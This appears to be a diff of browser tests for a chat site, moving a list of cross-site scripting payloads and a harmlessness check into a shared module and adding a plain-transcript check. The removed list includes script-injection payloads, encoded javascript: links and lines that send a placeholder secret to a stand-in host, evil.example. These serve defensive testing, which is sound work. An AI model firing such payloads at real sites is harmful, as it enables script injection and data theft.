@@ -1,46 +1,14 @@
 """Nothing that somebody wrote becomes a program, whoever wrote it."""
 
 import pytest
-from playwright.sync_api import Page, Route, expect
+from playwright.sync_api import Route, expect
 
+from tests.browser.payloads import PAYLOADS, expect_harmless, expect_plain_transcript
 from tests.browser.visitor import Visitor, ask, expect_settled, last_question, last_reply
 from tests.browser.wire import Turn, Wire
 from tests.openai_script import Answer, CallTool
 from tests.openai_server import OpenAIServer
 from tests.serving import ChatServer
-
-PAYLOADS = [
-    "<script>window.hacked=1</script>",
-    "<img src=x onerror=window.hacked=1>",
-    "[here](javascript:window.hacked=1)",
-    "[here](&#106;avascript:window.hacked=1)",
-    "[here](JaVaScRiPt&colon;window.hacked=1)",
-    "[here](data:text/html,<script>window.hacked=1</script>)",
-    "[here](vbscript:window.hacked=1)",
-    "<svg onload=window.hacked=1>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1></style></mglyph>",
-    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
-    "<details open ontoggle=window.hacked=1>x</details>",
-    '[here](https://example.org "onmouseover=window.hacked=1")',
-    "<a href='javascript:window.hacked=1' style='position:fixed;inset:0'>x</a>",
-    "![pixel](https://evil.example/?q=SECRET)",
-    "<form action=https://evil.example><button>x</button></form>",
-    "<base href=https://evil.example/><meta http-equiv=refresh content=0>",
-    "```html\n<script>window.hacked=1</script>\n```",
-    "&lt;script&gt;window.hacked=1&lt;/script&gt; <scr<script>ipt>window.hacked=1",
-]
-FOREIGN = "script, img, svg, math, iframe, form, base, meta, style, object, embed, input, [style]"
-
-
-def expect_harmless(page: Page) -> None:
-    """Besides, the visitor's pages complain of dialogs, foreign requests and broken policy."""
-    transcript = page.locator("#transcript")
-    expect(transcript.locator(FOREIGN)).to_have_count(0)
-    for attribute in ("onerror", "onload", "ontoggle", "onmouseover", "srcdoc"):
-        expect(transcript.locator(f"[{attribute}]")).to_have_count(0)
-    links = transcript.locator("a[href]").evaluate_all("links => links.map(link => link.protocol)")
-    assert set(links) <= {"http:", "https:", "mailto:", "tel:"}
-    assert page.evaluate("() => window.hacked") is None
 
 
 def test_words_of_visitors_stay_words(expert_site: ChatServer, visitor: Visitor) -> None:
@@ -52,6 +20,7 @@ def test_words_of_visitors_stay_words(expert_site: ChatServer, visitor: Visitor)
     expect_settled(page)
     assert last_question(page).inner_text().replace("\n\n", "\n") == text.replace("\n\n", "\n")
     expect_harmless(page)
+    expect_plain_transcript(page)
     page.reload()
     expect(last_question(page)).to_be_visible()
     expect_harmless(page)
@@ -71,6 +40,7 @@ def test_words_of_models_stay_words(
     expect_settled(page)
     expect(last_reply(page)).to_contain_text("window.hacked=1")
     expect_harmless(page)
+    expect_plain_transcript(page)
     page.reload()
     expect(last_reply(page)).to_contain_text("window.hacked=1")
     expect_harmless(page)
